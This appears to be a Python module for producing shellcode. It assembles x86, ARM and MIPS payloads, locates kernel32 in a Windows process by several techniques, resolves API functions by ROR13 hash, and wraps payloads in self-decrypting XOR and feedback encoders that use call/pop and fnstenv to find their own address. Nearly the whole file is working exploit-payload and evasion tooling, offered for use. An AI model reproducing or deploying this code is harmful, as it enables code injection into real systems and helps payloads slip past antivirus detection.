"""Shellcodes of our own, written as assembler and made by GNU as: for every CPU, and for each thing that one can do.

`windows32("…", "…")` puts a search for kernel32 and for functions by hash before the code; in the code `api NAME`
calls a function of the module in EBX with what was pushed.
"""

from __future__ import annotations

import functools
import re
import subprocess
import tempfile
from pathlib import Path

TOOLS = {
    "x86": ("as", "objcopy", "--32"),
    "x86-64": ("as", "objcopy", "--64"),
    "aarch64": ("aarch64-linux-gnu-as", "aarch64-linux-gnu-objcopy", "-march=armv8-a"),
    "arm": ("arm-linux-gnueabi-as", "arm-linux-gnueabi-objcopy", "-march=armv6t2"),
    "mips": ("mips-linux-gnu-as", "mips-linux-gnu-objcopy", "-mips32", "-EB", "-KPIC"),
    "mipsel": ("mipsel-linux-gnu-as", "mipsel-linux-gnu-objcopy", "-mips32", "-EL", "-KPIC"),
}


@functools.cache
def assemble(cpu: str, source: str) -> bytes:
    """Return the code of an assembler text."""
    assembler, objcopy, *options = TOOLS[cpu]
    syntax = ".intel_syntax noprefix\n" if cpu.startswith("x86") else ".set noreorder\n" if "mips" in cpu else ""
    with tempfile.TemporaryDirectory() as folder:
        unit, flat = Path(folder, "code.o"), Path(folder, "code.bin")
        subprocess.run([assembler, *options, "-o", str(unit), "-"], input=syntax + source, text=True, check=True)
        subprocess.run([objcopy, "-O", "binary", "-j", ".text", str(unit), str(flat)], check=True)
        return flat.read_bytes()


def ror13(name: str) -> int:
    value = 0
    for byte in name.encode():
        value = ((value >> 13 | value << 19) + byte) & 0xFFFF_FFFF
    return value


_FIND_32 = """
    cld
    jmp start
resolve:
    push ebx; push esi; push edi; push ecx
    mov eax, [ebx+0x3c]
    mov edi, [ebx+eax+0x78]
    add edi, ebx
    xor ecx, ecx
1:  mov esi, [edi+0x20]
    add esi, ebx
    mov esi, [esi+ecx*4]
    add esi, ebx
    push edi
    xor edi, edi
    xor eax, eax
2:  lodsb
    test al, al
    jz 3f
    ror edi, 13
    add edi, eax
    jmp 2b
3:  cmp edi, edx
    pop edi
    je 4f
    inc ecx
    jmp 1b
4:  mov eax, [edi+0x24]
    add eax, ebx
    movzx ecx, word ptr [eax+ecx*2]
    mov eax, [edi+0x1c]
    add eax, ebx
    mov eax, [eax+ecx*4]
    add eax, ebx
    pop ecx; pop edi; pop esi; pop ebx
    ret
"""
KERNEL32 = {
    "in memory order": "xor ecx, ecx\nmov esi, fs:[ecx+0x30]\nmov esi, [esi+0xc]\nmov esi, [esi+0x14]\nlodsd\n"
    "xchg eax, esi\nlodsd\nmov ebx, [eax+0x10]\n",
    "in order of initialisation": "xor ecx, ecx\nmov eax, fs:[ecx+0x30]\nmov eax, [eax+0xc]\nmov esi, [eax+0x1c]\n"
    "lodsd\nmov ebx, [eax+8]\n",
    "in order of initialisation, as of Windows 7": "xor ecx, ecx\nmov eax, fs:[ecx+0x30]\nmov eax, [eax+0xc]\n"
    "mov esi, [eax+0x1c]\nlodsd\nmov eax, [eax]\nmov ebx, [eax+8]\n",
    "by its name": "xor ecx, ecx\nmov esi, fs:[ecx+0x30]\nmov esi, [esi+0xc]\nmov esi, [esi+0x1c]\n"
    "9: mov ebx, [esi+8]\nmov edi, [esi+0x20]\nmov esi, [esi]\ncmp word ptr [edi+24], cx\njne 9b\n",
    "by the last exception handler": "xor ecx, ecx\nmov esi, fs:[ecx]\n9: lodsd\ncmp eax, -1\nje 8f\nmov esi, eax\n"
    "jmp 9b\n8: lodsd\nmov ebx, eax\n7: dec ebx\nxor bx, bx\ncmp word ptr [ebx], 0x5a4d\njne 7b\n",
    "by the top of the stack": "xor ecx, ecx\nmov ebx, fs:[ecx+0x18]\nmov ebx, [ebx+4]\nmov ebx, [ebx-0x1c]\n"
    "7: dec ebx\nxor bx, bx\ncmp word ptr [ebx], 0x5a4d\njne 7b\n",
    "by the return address": "mov ebx, [esp]\n7: dec ebx\nxor bx, bx\ncmp word ptr [ebx], 0x5a4d\njne 7b\n",
}  # fmt: skip


def windows32(body: str, kernel32: str = "in memory order") -> bytes:
    """Return x86 code for Windows: kernel32's base is in EBX, `api Name` calls, `text "…"` pushes a text's address."""
    return assemble("x86", _FIND_32 + "start:\n" + KERNEL32[kernel32] + _macros(body))


def _macros(body: str) -> str:
    lines = []
    for number, line in enumerate(body.strip().splitlines()):
        word, _, rest = line.strip().partition(" ")
        if word == "api":
            lines.append(f"mov edx, {ror13(rest):#x}\ncall resolve\ncall eax")
        elif word == "text":
            lines.append(f"call t{number}\n.asciz {rest}\nt{number}:")
        elif word == "load":  # a module, whose base is in EBX from then on
            lines.append(f"call t{number}\n.asciz {rest}\nt{number}: mov edx, {ror13('LoadLibraryA'):#x}\n"
                         "call resolve\ncall eax\nmov ebx, eax")  # fmt: skip
        else:
            lines.append(line)
    return "\n".join(lines) + "\n"


def port(number: int) -> int:
    """Return a port as a little-endian half word has it."""
    return number >> 8 | (number & 0xFF) << 8


def ip(text: str) -> int:
    """Return an IPv4 address as a little-endian word has it."""
    return int.from_bytes(bytes(int(part) for part in text.split(".")), "little")


def under_xor(code: bytes, key: int) -> bytes:
    """Return the code behind a loop that XORs each byte with a key: call and pop, `loop`."""
    loop = assemble("x86", f"""
        jmp 2f
    1:  pop esi
        xor ecx, ecx
        mov cx, {len(code)}
        lea edi, [esi]
    3:  xor byte ptr [edi], {key}
        inc edi
        loop 3b
        jmp esi
    2:  call 1b
    """)  # fmt: skip
    return loop + bytes(byte ^ key for byte in code)


def under_dword_xor(code: bytes, key: bytes) -> bytes:
    """Return the code behind the loop that finds itself by `fnstenv` and XORs words of four bytes."""
    code += b"\x90" * (-len(code) % 4)
    loop = assemble("x86", f"""
        xor ecx, ecx
        sub ecx, {-(len(code) // 4)}
        fldz
        fnstenv [esp-12]
        pop ebx
    1:  xor dword ptr [ebx+0x16], {int.from_bytes(key, "little"):#x}
        sub ebx, -4
        loop 1b
    """)  # fmt: skip
    # EBX is the address of `fldz`; what it begins at is behind the loop.
    distance = len(loop) - loop.index(b"\xd9\xee")
    loop = re.sub(rb"(\x81\x73)\x16", lambda found: found[1] + bytes([distance]), loop, count=1)
    return loop + bytes(byte ^ key[index % 4] for index, byte in enumerate(code))


def under_feedback(code: bytes, key: int) -> bytes:
    """Return the code behind a loop whose key changes with what it decoded, its own last instruction first."""
    plain = b"\xe2\xf5" + code
    plain += b"\x90" * (-len(plain) % 4)
    words = [int.from_bytes(plain[at : at + 4], "little") for at in range(0, len(plain), 4)]
    out, value = bytearray(), key
    for word in words:
        out += (word ^ value).to_bytes(4, "little")
        value = value + word & 0xFFFF_FFFF
    head = assemble("x86", f"""
        mov eax, {key:#x}
        fldpi
        fnstenv [esp-12]
        pop edi
        xor ecx, ecx
        mov cl, {len(words)}
    1:  xor dword ptr [edi+0x7f], eax
        add eax, dword ptr [edi+0x7f]
        add edi, 4
    """)  # fmt: skip
    distance = len(head) - head.index(b"\xd9\xeb")
    head = head.replace(b"\x31\x47\x7f\x03\x47\x7f", bytes((0x31, 0x47, distance, 0x03, 0x47, distance)))
    assert b"\x7f" not in head[-9:]
    return head + bytes(out)


def under_feedback_64(code: bytes, key: int) -> bytes:
    """Return code for x86-64 behind a loop whose key, one byte, changes with what it has decoded."""
    head = assemble("x86-64", f"""
        lea rsi, [rip+1f]
        mov ecx, {len(code)}
        mov al, {key}
    2:  xor byte ptr [rsi], al
        add al, byte ptr [rsi]
        inc rsi
        dec ecx
        jnz 2b
    1:
    """)  # fmt: skip
    out = bytearray(head)
    for byte in code:
        out.append(byte ^ key)
        key = key + byte & 0xFF
    return bytes(out)
